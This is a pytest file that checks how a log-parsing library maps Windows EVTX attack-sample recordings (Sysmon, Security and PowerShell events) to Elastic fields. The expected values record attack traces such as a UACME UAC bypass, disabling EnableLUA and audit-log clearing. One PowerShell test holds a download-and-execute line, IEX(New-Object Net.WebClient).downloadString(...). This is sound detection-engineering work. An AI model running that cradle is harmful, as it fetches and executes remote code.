"""Records of the shared EVTX recordings mapped field by field. Expected values are written from
Elastic's pipeline definitions (sysmon_operational, system.security, powershell_operational)
and, for Sysmon, from the reference documents Elastic indexed of the same records."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from lanner.store.events import flatten
from lanner.store.evtx import read_evtx
from lanner.store.readers import Record
from tests.conftest import require_shared

EVTX = Path(__file__).parents[3] / ".." / "shared" / "data" / "real" / "evtx"
SAMPLES = EVTX / "EVTX-ATTACK-SAMPLES"


def _record(path: Path, record_id: str) -> Record:
    require_shared()
    for item in read_evtx(path):
        if isinstance(item, Record) and item.source["winlog"]["record_id"] == record_id:
            return item
    raise AssertionError(f"record {record_id} not in {path}")


def _fields(record: Record, expected: dict[str, Any]) -> dict[str, Any]:
    flat = flatten(record.source)
    return {name: flat.get(name) for name in expected}


SYSMON_PROCESS_CREATE = {
    "@timestamp": "2020-10-05T20:43:58.449Z",
    "event.code": "1", "event.kind": "event", "event.category": ["process"],
    "event.type": ["start"], "event.action": "Process creation",
    "event.module": "windows", "event.dataset": "windows.sysmon_operational",
    "event.provider": "Microsoft-Windows-Sysmon",
    "host.name": "laptop-ju4m3i0e", "host.hostname": "LAPTOP-JU4M3I0E", "host.os.type": "windows",
    "process.entity_id": "00247C92-858E-5F7B-0000-00105241202B", "process.pid": 18404,
    "process.executable": "C:\\Windows\\System32\\Taskmgr.exe", "process.name": "Taskmgr.exe",
    "process.command_line": "C:\\windows\\system32\\taskmgr.exe",
    "process.args": ["C:\\windows\\system32\\taskmgr.exe"], "process.args_count": 1,
    "process.working_directory": "C:\\windows\\system32\\",
    "process.pe.original_file_name": "Taskmgr.exe", "process.pe.company": "Microsoft Corporation",
    "process.pe.imphash": "98526f50539626c2e9c93297fe2af83b",
    "process.hash.md5": "33facaab13a58251bf45e9ac958b15fa",
    "process.hash.sha256": "0af6b3f8628e38b1551ec76277e482f8a2605b661f57c164c47acebb14b1a81b",
    "process.parent.pid": 27356, "process.parent.name": "Akagi_64.exe",
    "process.parent.command_line": "Akagi_64.exe  59 cmd.exe",
    "process.parent.args": ["Akagi_64.exe", "59", "cmd.exe"], "process.parent.args_count": 3,
    "user.id": "S-1-5-18", "user.domain": "LAPTOP-JU4M3I0E", "user.name": "bouss",
    "winlog.channel": "Microsoft-Windows-Sysmon/Operational", "winlog.event_id": "1",
    "winlog.record_id": "2164889", "winlog.computer_name": "LAPTOP-JU4M3I0E",
    "winlog.user.identifier": "S-1-5-18", "winlog.event_data.IntegrityLevel": "High",
    "winlog.event_data.LogonId": "0x391e334",
    "winlog.event_data.Image": None, "winlog.event_data.UtcTime": None,
    "winlog.event_data.ProcessId": None, "winlog.event_data.Hashes": None,
    "data_stream.dataset": "windows.sysmon_operational",
}  # fmt: skip


def test_sysmon_process_creation() -> None:
    record = _record(SAMPLES / "UACME_59_Sysmon.evtx", "2164889")
    assert record.index == "logs-windows.sysmon_operational-default"
    assert _fields(record, SYSMON_PROCESS_CREATE) == SYSMON_PROCESS_CREATE


SYSMON_CASES = [
    ("Defense Evasion/DE_remote_eventlog_svc_crash_byt3bl33d3r_sysmon_17_1_3.evtx", "7375", {
        "event.type": ["start", "connection", "protocol"], "event.action": "Network connection",
        "network.transport": "tcp", "network.protocol": "ldap", "network.direction": "egress",
        "network.type": "ipv6", "source.ip": "0:0:0:0:0:0:0:1", "source.port": 52246,
        "destination.port": 389, "destination.domain": "01566s-win16-ir.threebeesco.com",
        "user.name": "SYSTEM", "user.domain": "NT AUTHORITY", "related.user": ["SYSTEM"],
        "winlog.event_data.Initiated": None}),
    ("UACME_59_Sysmon.evtx", "2164886", {
        "event.type": ["access"], "event.action": "ProcessAccess", "process.pid": 27356,
        "process.thread.id": 4732, "process.name": "Akagi_64.exe",
        "winlog.event_data.TargetImage": "C:\\Windows\\System32\\cmd.exe",
        "winlog.event_data.GrantedAccess": "0x1410", "winlog.event_data.SourceImage": None}),
    ("Defense Evasion/DE_UAC_Disabled_Sysmon_12_13.evtx", "18619", {
        "event.category": ["configuration", "registry"], "rule.name":
        "technique_id=T1088,technique_name=Bypass User Account Control",
        "registry.hive": "HKLM",
        "registry.key": "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\policies\\system\\EnableLUA",
        "registry.value": "EnableLUA", "registry.data.strings": ["0"],
        "registry.data.type": "SZ_DWORD", "winlog.event_data.Details": "DWORD (0x00000000)"}),
    ("Privilege Escalation/Sysmon_UACME_64.evtx", "1084", {
        "event.type": ["connection", "protocol", "info"], "network.protocol": "dns",
        "dns.question.name": "wpad", "sysmon.dns.status": "DNS_ERROR_RCODE_NAME_ERROR",
        "related.hosts": ["wpad"], "winlog.event_data.QueryStatus": None}),
    ("Privilege Escalation/Sysmon_UACME_64.evtx", "769", {
        "event.type": ["deletion"], "process.pe.imphash": "522d83761201075834f05037f5307949",
        "process.hash.sha1": "6bfb38629570909d3d9eedfc783a948ce7849105",
        "file.name": "consent.exe.dat", "file.extension": "dat",
        "sysmon.file.archived": True, "sysmon.file.is_executable": True}),
    ("Defense Evasion/DE_BYOV_Zam64_CA_Memdump_sysmon_7_10.evtx", "20014", {
        "event.action": "Image loaded", "file.path": "C:\\Windows\\System32\\dbgcore.dll",
        "file.pe.original_file_name": "DBGCORE.DLL", "file.code_signature.status": "Valid",
        "file.code_signature.valid": True, "file.code_signature.signed": True,
        "file.pe.imphash": "9d75f08ea29885182b136ce4ff854114", "process.pe": None}),
]  # fmt: skip


@pytest.mark.parametrize(("recording", "record_id", "expected"), SYSMON_CASES,
                         ids=[f"{Path(case[0]).stem}-{case[1]}" for case in SYSMON_CASES])
def test_sysmon_events(recording: str, record_id: str, expected: dict[str, Any]) -> None:
    assert _fields(_record(SAMPLES / recording, record_id), expected) == expected


RDP_TUNNEL = SAMPLES / "Command and Control" / "DE_RDP_Tunnel_5156.evtx"
SECURITY_CASES = [
    ("227701", {  # 4624: the target user is the user; logon type named; source from IpAddress
        "@timestamp": "2019-02-13T18:02:04.426Z", "event.code": "4624",
        "event.action": "logged-in", "event.category": ["authentication"],
        "event.type": ["start"], "event.outcome": "success", "event.module": "system",
        "event.dataset": "system.security", "winlog.logon.type": "CachedInteractive",
        "winlog.logon.id": "0x3e7", "winlog.keywords": ["Audit Success"],
        "user.id": "S-1-5-21-1587066498-1489273250-1035260531-1106", "user.name": "user01",
        "user.domain": "EXAMPLE", "related.user": ["user01", "PC01$"],
        "source.ip": "127.0.0.1", "source.port": 0, "source.domain": "PC01",
        "process.pid": 1796, "process.executable": "C:\\Windows\\System32\\winlogon.exe",
        "process.name": "winlogon.exe", "winlog.event_data.IpAddress": None,
        "winlog.event_data.LogonType": "11", "winlog.event_data.KeyLength": "0",
        "log.level": "information"}),
    ("227695", {  # 4688: NewProcess*, parent pid from ProcessId (hex), subject user
        "event.action": "created-process", "event.type": ["start"], "process.pid": 508,
        "process.executable": "C:\\Windows\\System32\\TSTheme.exe", "process.name": "TSTheme.exe",
        "process.parent.pid": 632, "process.args": None, "process.command_line": None,
        "user.id": "S-1-5-18", "user.name": "PC01$", "user.domain": "EXAMPLE",
        "winlog.event_data.TokenElevationType": "%%1936"}),
    ("227693", {  # 1102 from UserData
        "event.action": "audit-log-cleared", "event.category": ["iam"],
        "user.name": "admin01", "user.domain": "EXAMPLE", "winlog.logon.id": "0xaf855",
        "winlog.user_data.xml_name": "LogFileCleared",
        "winlog.provider_guid": "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"}),
]  # fmt: skip


@pytest.mark.parametrize(("record_id", "expected"), SECURITY_CASES,
                         ids=[case[0] for case in SECURITY_CASES])
def test_security_events(record_id: str, expected: dict[str, Any]) -> None:
    record = _record(RDP_TUNNEL, record_id)
    assert record.index == "logs-system.security-default"
    assert _fields(record, expected) == expected


def test_powershell_4103_context_and_payload() -> None:
    record = _record(EVTX / "EVTX-to-MITRE-Attack" / "TA0002-Execution" / "T1059.001-PowerShell"
                     / "ID4103-4104-Payload download via PowerShell.evtx", "83422")
    expected = {
        "event.category": "process", "event.type": "info",
        # "24\r": the line end the kv split leaves makes ES' long conversion fail
        "event.sequence": None,
        "process.entity_id": "5a3793a4-31d1-4d3d-a8d1-4cd874d06e70\r",
        "process.title": "ConsoleHost\r", "powershell.id": "Microsoft.PowerShell\r",
        "user.domain": "OFFSEC", "user.name": "admmig\r",
    }
    details = [
        {"type": "CommandInvocation", "related_command": "Out-Default",
         "value": '"Out-Default"\r'},
        {"type": "ParameterBinding", "related_command": "Out-Default", "name": '"InputObject"',
         "value": "\"IEX(New-Object Net.WebClient).downloadString('https://miro.medium.com/"
                  "max/1400/1*FnPDYeZVrGTbuE7Lj7JhgQ.png')\"\r"},
        {"value": ""},
    ]
    assert record.index == "logs-windows.powershell_operational-default"
    assert _fields(record, expected) == expected
    assert record.source["powershell"]["command"]["invocation_details"] == details
    assert "Payload" not in record.source["winlog"].get("event_data", {})
